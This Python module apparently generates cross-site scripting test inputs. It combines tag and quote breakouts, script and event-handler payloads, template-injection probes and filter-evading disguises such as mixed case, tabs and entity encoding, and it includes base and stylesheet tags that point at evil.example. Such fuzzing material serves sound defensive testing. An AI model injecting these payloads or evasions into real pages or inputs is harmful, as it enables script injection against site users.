"""Texts that try to become markup or script, made from ways to break out, things to run, and disguises."""

from collections import defaultdict
from collections.abc import Callable

BREAKS = ("", '">', "'>", "</title>", "</textarea>", "-->", "</q></p></li>", "</select>", "`]]>")
RUNS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1) id=main>x</a>",
    "<form action=javascript:alert(1) id=keys><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<object data='javascript:alert(1)'></object>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)></select>",
    "<template><script>alert(1)</script></template>",
    "<embed src='javascript:alert(1)'>",
    "<dialog open oncancel=alert(1)><button autofocus>x</button></dialog>",
    "javascript:alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "{{ 7 * 7 }}{% raw %}<b>x</b>{% endraw %}",
)
DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.replace("script", "ScRiPt").replace("img", "IMG"),
    lambda text: text.replace(" on", "\ton").replace("<svg ", "<svg/"),
    lambda text: text.replace("alert", "al\u0065rt").replace("javascript:", "java\tscript:"),
    lambda text: text.replace("=", " = ").replace("onerror", "OnErRoR"),
    lambda text: text.replace("<", "&lt;").replace(">", "&#62;"),
)

PAYLOADS = tuple(dict.fromkeys(hide(start + run) for start in BREAKS for run in RUNS for hide in DISGUISES))
ALL = " ".join(PAYLOADS)
COPIES = 16
"""In so many texts all of them stand, where one text cannot be so long."""


class Voice:
    """Says something in every field: payloads, or one plain sentence; remembers what it said."""

    def __init__(self, *, evil: bool, whole: Callable[[str], bool] = lambda field: "." in field) -> None:
        self.said: defaultdict[str, list[str]] = defaultdict(list)
        self._evil, self._whole = evil, whole

    def __call__(self, field: str) -> str:
        """All payloads where a text may be long (a column), else with each call the next of them: `COPIES` calls say them all."""
        words = ALL if self._whole(field) else " ".join(PAYLOADS[len(self.said[field]) % COPIES :: COPIES])
        self.said[field].append(words if self._evil else "平常的一句话")
        return f"〖{field}〗{self.said[field][-1]}"
